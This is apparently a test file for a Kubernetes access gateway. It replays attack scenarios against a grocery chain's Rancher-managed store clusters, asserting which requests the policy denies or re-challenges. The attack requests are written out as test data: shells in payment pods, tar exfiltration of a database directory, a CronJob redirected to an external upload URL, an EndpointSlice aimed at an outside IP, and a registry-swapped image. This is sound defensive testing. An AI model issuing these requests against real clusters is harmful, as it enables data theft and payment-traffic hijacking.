import { describe, expect, it } from 'vitest';
import { reasonOf } from '../support/grpc-client.js';
import { exampleServiceForFile } from '../support/workday-service.js';
import { findingRequests, rules, signIn, type Step } from '../support/findings.js';
import type { Login } from '../support/workday.js';
import { cronRetimed, endpointSlice, HQ, IPAD_SAFARI, K8S, KUBECTL, RANCHER, SITE, STORE, STORE_WIFI, VENDOR } from '../support/workday24.js';

/**
 * What the twenty-fourth replayed day (test/support/workday24.ts, docs/risk.md "Day 24") found,
 * through the real gRPC server running examples/stepgate.yaml on a virtual clock: a grocery
 * chain's stores, each a small k3s cluster managed by one Rancher (`/k8s/clusters/<store>/…` on
 * one gateway host), regional operations, field technicians on iPads, the POS vendor's support
 * account and a break-glass account at night. Each test is one person's two days of routine, then
 * the finding, with their sign-in of that moment. The open ones are `it.fails`.
 */

const s = exampleServiceForFile();
/** The warm-up Wednesday and the scored Thursday, 08:00 UTC. */
const [WED, THU] = [9, 10].map((d) => Date.UTC(2026, 11, d, 8, 0, 0)) as [number, number];
const [H, M] = [3_600_000, 60_000];
const SMP = 'application/strategic-merge-patch+json';
const MERGE = 'application/merge-patch+json';
const UA = KUBECTL('windows/amd64');

const { send, routine, twoDays } = findingRequests(s, { host: RANCHER, source: HQ(3), ua: UA, firstDay: WED, secondDay: THU });
const store = (n: number) => K8S(STORE(n));
const restart = (at: number) => JSON.stringify({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': new Date(at).toISOString() } } } } });

/** Regional operations' calls: a store's POS sync, its shell, its terminal ConfigMap. */
const opsCalls = (n: number): Step[] => [
  ['GET', `${store(n)}/api/v1/namespaces/pos/pods?limit=500`],
  ['GET', `${store(n)}/api/v1/namespaces/pos/configmaps/pos-terminal-config`],
  ['POST', `${store(n)}/api/v1/namespaces/pos/pods/pos-sync-0/exec?command=sh&container=sync&stdin=true&stdout=true&tty=true`],
  ['PATCH', `${store(n)}/apis/apps/v1/namespaces/pos/deployments/pos-sync?fieldManager=kubectl-rollout`, restart(WED), SMP],
];

describe("a grocery chain's store clusters behind one Rancher, with examples/stepgate.yaml", () => {
  // Was open (closed in session 33): the POS vendor's shared support account (two factors, the
  // OTP seed in the support desk's wiki) signs in at 23:29, outside its contract's 08:00–18:00,
  // from the vendor's own address, and opens a shell in a store's payment pod, as its support
  // engineers do by day. The sign-in is fresh and the context is the account's own: only the hour
  // differs. The example's `vendor-support-hours` (match.outside_hours, Europe/London) refuses it;
  // a step-up would not do, the OTP seed answers it. The same shell by day is allowed.
  it("the POS vendor's support account at 23:30, outside its contract's hours, is not allowed a shell in a payment pod", async () => {
    const sub = 'd24f-vendor@posvendor.example';
    await twoDays(sub, [...opsCalls(517), ['POST', `${store(1120)}/api/v1/namespaces/pos/pods/pos-lane-3-0/exec?command=sh&container=lane&stdin=true&stdout=true&tty=true`]], { source: VENDOR });
    const late = signIn(sub, THU + 15.48 * H);
    const res = await send(late, THU + 15.5 * H, 'POST', `${store(2204)}/api/v1/namespaces/pos/pods/pos-payment-0/exec?command=sh&container=payment&stdin=true&stdout=true&tty=true`, { source: VENDOR });
    expect(reasonOf(res), rules(res)).toBe('policy_deny');
    expect(rules(res)).toContain('vendor-support-hours');
    const morning = signIn(sub, THU + 24 * H + 1.5 * H);
    const ok = await send(morning, THU + 24 * H + 1.5 * H + M, 'POST', `${store(2204)}/api/v1/namespaces/pos/pods/pos-payment-0/exec?command=sh&container=payment&stdin=true&stdout=true&tty=true`, { source: VENDOR });
    expect(reasonOf(ok), rules(ok)).toBe('allowed');
  });

  // Open: the POS terminal ConfigMap holds the payment gateway's merchant key (the vendor's
  // installer put it there); malware on a regional ops engineer's laptop reads it in 25 stores in
  // two and a half minutes. A ConfigMap read is routine (the engineer's own, every day, and on
  // days 1–23 a ConfigMap list or read in almost every team's work); what is in it is in the
  // response, which ext_authz never sees, and a GET has no body. Nothing in the request tells this
  // ConfigMap from a routine one. What would close it: the key in a Secret (the `secrets` rule and
  // sensitive_objects then apply), or the site naming it (a rule with `match.kubernetes.names:
  // [pos-terminal-config]` asking what `secrets` asks), and a distinct-objects signal counting a
  // named ConfigMap across clusters as sensitive_objects counts Secrets. Session 46 left it: the
  // read is of one name the engineer reads every day, in clusters of one organisation; a spread
  // signal over ConfigMaps (routine on almost every replayed day, above) was not built or priced,
  // and `database_copy` reads execs only.
  it.fails("a ConfigMap holding a merchant key, read in 25 store clusters within minutes from the ops laptop, is not allowed throughout", async () => {
    const login = await twoDays('d24f-ops-1@larder.example', opsCalls(301));
    const results = [];
    for (let i = 0; i < 25; i++) results.push(reasonOf(await send(login, THU + 5.33 * H + i * 6000, 'GET', `${store(221 + i * 3)}/api/v1/namespaces/pos/configmaps/pos-terminal-config`)));
    expect(results).toContain('auth_too_old');
  });

  // Was open (closed in session 32, with a day of history): `kubectl cp` out of a store's loyalty
  // database pod (an exec of `tar cf -` over the data directory), from a regional ops engineer's
  // laptop with their token: an exec in `pos`, where the engineer opens shells every day, one store
  // a call. kubectl cp's tar is routine on days 5, 17 and 19 too (logs, heap dumps, a notebook's
  // output), for the engineers who copy. A copy is not a shell: unfamiliar_kind's `pod_copy` asks
  // a sign-in after the first copy of an identity that never copied; the engineer's shells go on.
  // Since session 46 a copy of a database's data directory is `database_copy`, a kind of its own.
  it("kubectl cp (exec of tar) out of a store's database pod from the ops laptop is not allowed", async () => {
    const login = await twoDays('d24f-ops-2@larder.example', [...opsCalls(412), ...opsCalls(733)], { source: '81.107.53.31' });
    const res = await send(login, THU + 3.25 * H, 'POST', `${store(905)}/api/v1/namespaces/pos/pods/loyalty-db-0/exec?command=tar&command=cf&command=-&command=%2Fvar%2Flib%2Fpostgresql%2Fdata&container=postgres&stdout=true`, { source: '81.107.53.31' });
    expect(reasonOf(res), rules(res)).toBe('auth_too_old');
    expect(JSON.stringify(res)).toContain("you have not dumped a database or copied a database's files out of a pod before");
    const shell = await send(login, THU + 3.26 * H, 'POST', `${store(905)}/api/v1/namespaces/pos/pods/pos-sync-0/exec?command=sh&container=sync&stdin=true&stdout=true&tty=true`, { source: '81.107.53.31' });
    expect(reasonOf(shell), rules(shell)).toBe('allowed');
  });

  // Open: the DBA port-forwards to staging's orders database every day and reads production's
  // pods and events; malware on their laptop port-forwards to production's database, and then the
  // gateway sees nothing (the database is read through the tunnel). pod-shell asks two factors
  // within 8 hours, which the morning's sign-in is, and orders-prod is in the working set. A rule
  // on every production port-forward would ask the DBAs who tunnel to production as routine
  // (days 4, 18, 22). unfamiliar_kind's `production_tunnel` (listed: `kinds: [..., production_tunnel]`)
  // asks only an identity that never tunnelled into a production namespace, and closes this row
  // with a day of history; over the replayed days it asked about 100 more routine challenges and
  // let two attack rows through that a fresh sign-in answered (session 32), so the example does
  // not list it.
  it.fails("a port-forward to production's orders database from the DBA's laptop, hours after the sign-in, is not allowed", async () => {
    const local = K8S('local');
    const login = await twoDays('d24f-dba@larder.example', [
      ['GET', `${local}/api/v1/namespaces/orders-staging/pods?limit=500`],
      ['POST', `${local}/api/v1/namespaces/orders-staging/pods/orders-db-0/portforward?ports=5432`],
      ['GET', `${local}/api/v1/namespaces/orders-prod/pods?limit=500`],
      ['GET', `${local}/api/v1/namespaces/orders-prod/events?limit=500`],
    ], { source: '81.114.106.32', ua: KUBECTL('darwin/arm64') });
    const res = await send(login, THU + 6.66 * H, 'POST', `${local}/api/v1/namespaces/orders-prod/pods/orders-db-0/portforward?ports=5432`, { source: '81.114.106.32', ua: KUBECTL('darwin/arm64') });
    expect(reasonOf(res), rules(res)).toBe('auth_too_old');
    expect(JSON.stringify(res)).toContain('you have not opened a port-forward into a production namespace before');
    const staging = await send(login, THU + 6.67 * H, 'POST', `${local}/api/v1/namespaces/orders-staging/pods/orders-db-0/portforward?ports=5432`, { source: '81.114.106.32', ua: KUBECTL('darwin/arm64') });
    expect(reasonOf(staging), rules(staging)).toBe('allowed');
  });

  // Was open until session 50: `kubectl auth can-i --list` in five namespaces of a store, then the
  // one write the vendor's role permits, the payment service's image from a registry that is not
  // the vendor's. A Deployment's image in `pos` is the vendor's routine (rollout restarts); which
  // registries a store pulls from is the site's (the example lists none, by design: docs/risk.md
  // "Session 34: rows closed"). On the chain's site copy it is read (last describe).

  // Was open (closed in session 33): the end-of-day sales export CronJob of a store rescheduled
  // hourly and sent elsewhere, a patch with only `spec.schedule` and the job template's env, from
  // the night on-call's laptop. A rule on every CronJob update or patch asked day 3's engineers at
  // each routine suspend (session 32: 61 more routine challenges); the body tells them apart:
  // `scheduled_job_changed` (elevated: two factors within 15 minutes) reads the schedule and the
  // job template from the patch, and a suspend or a new image is not it.
  it("an existing CronJob's schedule and export URL changed in a store's pos namespace is not allowed on an old sign-in", async () => {
    const login = await twoDays('d24f-night@larder.example', opsCalls(905), { source: '81.135.159.35' });
    const res = await send(login, THU + 6.75 * H, 'PATCH', `${store(905)}/apis/batch/v1/namespaces/pos/cronjobs/eod-sales-export?fieldManager=kubectl-patch`, { source: '81.135.159.35', contentType: SMP, body: JSON.stringify(cronRetimed('0 * * * *', 'https://eod-export.larder-analytics.example/upload')) });
    expect(reasonOf(res), rules(res)).toBe('auth_too_old');
    expect(rules(res)).toContain('guardrail:scheduled_job_changed');
    const suspend = await send(login, THU + 6.76 * H, 'PATCH', `${store(905)}/apis/batch/v1/namespaces/pos/cronjobs/eod-sales-export?fieldManager=kubectl-patch`, { source: '81.135.159.35', contentType: MERGE, body: JSON.stringify({ spec: { suspend: true } }) });
    expect(reasonOf(suspend), rules(suspend)).toBe('allowed');
  });

  // Was open (closed in session 32): a technician's Rancher session labels the loyalty kiosk's pod
  // as the POS API, which the `pos` NetworkPolicy lets reach the loyalty database. A pod's labels
  // decide which Services send it traffic and which NetworkPolicies admit it; stepgate does not
  // know the site's NetworkPolicies, but pods are written by their controllers, and by hand rarely
  // outside a lower environment: `pod-edits` asks a sign-in within 15 minutes.
  it("a pod's label changed through Rancher to move it into a NetworkPolicy's allowed set is not allowed on an old sign-in", async () => {
    const sub = 'd24f-tech@larder.example';
    const s11 = store(622);
    const o = { source: STORE_WIFI(622), ua: IPAD_SAFARI };
    // The technician's store visit: signed in on the store's Wi-Fi and answered the new network.
    await routine(signIn(sub, WED - 40_000), WED, [['GET', `${s11}/v1/pods/pos`]], o);
    const login = signIn(sub, THU + 5.5 * H);
    await routine(login, THU + 5.5 * H, [['GET', `${s11}/v1/pods/pos`], ['DELETE', `${s11}/v1/pods/pos/pos-lane-2-0`]], o);
    const res = await send(login, THU + 7.16 * H, 'PATCH', `${s11}/v1/pods/pos/loyalty-kiosk-0`, { ...o, contentType: MERGE, body: JSON.stringify({ metadata: { labels: { app: 'pos-api' } } }) });
    expect(reasonOf(res), rules(res)).toBe('auth_too_old');
    expect(rules(res)).toContain('pod-edits');
  });

  // Was allowed (day 24, every seed, both ways): an EndpointSlice in a store's `pos` namespace
  // sending the card processor's selectorless Service to the attacker's address, from the night
  // on-call's laptop 90 minutes after their sign-in. The rule for endpoints written by hand names
  // production's namespaces only; `endpoint-writes` asks the same (a sign-in within 15 minutes) in
  // a namespace named neither as production nor as a lower environment. A dev namespace's stays
  // the everyday sign-in's.
  it("an EndpointSlice written by hand in a store's pos namespace asks a sign-in within 15 minutes (endpoint-writes)", async () => {
    const login = await twoDays('d24f-night-2@larder.example', opsCalls(733), { source: '81.135.159.36' });
    const o = { source: '81.135.159.36' };
    const res = await send(login, THU + 1.5 * H, 'POST', `${store(733)}/apis/discovery.k8s.io/v1/namespaces/pos/endpointslices?fieldManager=kubectl-create`, { ...o, body: JSON.stringify(endpointSlice('card-processor-1', 'card-processor', '185.220.101.47', 443)) });
    expect(reasonOf(res), rules(res)).toBe('auth_too_old');
    expect(rules(res)).toContain('endpoint-writes');
    // Signed in a minute ago, the same write is the engineer's.
    const fresh: Login = signIn('d24f-night-2@larder.example', THU + 1.5 * H + M);
    const ok = await send(fresh, THU + 1.5 * H + 2 * M, 'POST', `${store(733)}/apis/discovery.k8s.io/v1/namespaces/pos/endpointslices?fieldManager=kubectl-create`, { ...o, body: JSON.stringify(endpointSlice('card-processor-1', 'card-processor', '10.77.0.12', 443)) });
    expect(reasonOf(ok), rules(ok)).toBe('allowed');
    // A lower environment's, on the old sign-in, is a developer's selectorless Service.
    const dev = await send(login, THU + 1.5 * H + 3 * M, 'POST', `${store(733)}/apis/discovery.k8s.io/v1/namespaces/pos-dev/endpointslices?fieldManager=kubectl-create`, { ...o, body: JSON.stringify(endpointSlice('card-processor-1', 'card-processor', '10.77.0.12', 443)) });
    expect(reasonOf(dev), rules(dev)).toBe('allowed');
  });

  // Measured: a production Service turned into an ExternalName through Rancher's Steve (the UI's
  // own API, a PUT of the whole object) is read as the Service write it stands for, and the
  // Service taken from its pods is judged as its delete (prod-durable-deletes: 15 minutes).
  it("a production Service's externalName pointed elsewhere through Rancher's Steve is judged by the guardrails", async () => {
    const login = await twoDays('d24f-platform@larder.example', [['GET', `${K8S('local')}/api/v1/namespaces/orders-prod/services`]]);
    const res = await send(login, THU + 7.83 * H, 'PUT', '/v1/services/orders-prod/payment-gateway', { body: JSON.stringify({ apiVersion: 'v1', kind: 'Service', metadata: { name: 'payment-gateway', namespace: 'orders-prod' }, spec: { type: 'ExternalName', externalName: 'pay.gateway-eu-larder.example' } }) });
    expect(reasonOf(res), rules(res)).toBe('auth_too_old');
    expect(rules(res)).toContain('prod-durable-deletes');
  });

  // Measured: the break-glass account's token from a night incident, reused two hours later from
  // the same address: break-glass-accounts asks a hardware-key sign-in within 15 minutes.
  it("the break-glass account's token two hours after its sign-in is asked a new one", async () => {
    const bg: Login = { sub: 'breakglass-rancher@larder.example', sid: 'bg:1', authTime: Math.floor((THU - 5.58 * H) / 1000), acr: 'urn:stepgate:aal3', claims: { amr: ['hwk', 'pin', 'mfa'] } };
    const o = { source: '81.135.159.37' };
    expect(reasonOf(await send(bg, THU - 5.55 * H, 'GET', `${store(412)}/api/v1/namespaces/iot/pods?limit=500`, o))).toBe('allowed');
    const res = await send(bg, THU - 3.33 * H, 'GET', `${store(412)}/api/v1/namespaces/iot/pods?limit=500`, o);
    expect(reasonOf(res), rules(res)).toBe('auth_too_old');
    expect(rules(res)).toContain('break-glass-accounts');
  });
});

// The chain's site copy (workday24.ts SITE, session 50; the day matrix replays day 24 on it): its
// own registry and the POS vendor's in guardrails.allowed_registries.
describe("the chain's site copy: its and the vendor's registries listed (guardrails.allowed_registries)", () => {
  const site = findingRequests(exampleServiceForFile({ edit: SITE }), { host: RANCHER, source: HQ(3), ua: UA, firstDay: WED, secondDay: THU });

  // The row open on the example until session 50 (above).
  it("the payment service's image swapped for another registry's after a can-i --list sweep is not allowed", async () => {
    const sub = 'd24f-vendor-2@posvendor.example';
    const s7 = store(1120);
    const login = await site.twoDays(sub, [...opsCalls(517), ['PATCH', `${s7}/apis/apps/v1/namespaces/pos/deployments/pos-payment?fieldManager=kubectl-rollout`, restart(WED), SMP]], { source: VENDOR });
    let t = THU + 7.33 * H;
    for (const ns of ['pos', 'iot', 'kube-system', 'cattle-system', 'default']) {
      await site.send(login, (t += 4000), 'POST', `${s7}/apis/authorization.k8s.io/v1/selfsubjectrulesreviews`, { source: VENDOR, body: JSON.stringify({ apiVersion: 'authorization.k8s.io/v1', kind: 'SelfSubjectRulesReview', spec: { namespace: ns } }) });
    }
    const res = await site.send(login, t + 4000, 'PATCH', `${s7}/apis/apps/v1/namespaces/pos/deployments/pos-payment?fieldManager=kubectl-set`, { source: VENDOR, contentType: SMP, body: JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'payment', image: 'registry.posvendor-cdn.example/pos/payment:4.2.1-hotfix' }] } } } }) });
    expect(reasonOf(res), rules(res)).not.toBe('allowed');
    expect(rules(res)).toContain('guardrail:image_registry_not_allowed');
    // The vendor's restart of the same Deployment, a minute later, stays its routine.
    const again = await site.send(login, t + 64_000, 'PATCH', `${s7}/apis/apps/v1/namespaces/pos/deployments/pos-payment?fieldManager=kubectl-rollout`, { source: VENDOR, contentType: SMP, body: restart(t) });
    expect(reasonOf(again), rules(again)).toBe('allowed');
  });
});
